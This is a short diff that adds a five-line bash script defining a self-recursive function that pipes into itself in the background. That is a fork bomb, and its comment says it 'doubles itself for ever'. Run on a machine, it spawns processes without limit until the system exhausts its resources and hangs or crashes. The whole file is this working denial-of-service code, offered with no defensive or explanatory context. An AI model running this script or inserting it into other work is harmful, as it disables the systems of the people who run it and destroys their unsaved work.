@@ -1,0 +1,5 @@
+#!/bin/bash
+# Doubles itself for ever.
+bomb() { bomb | bomb & }
+bomb
+wait
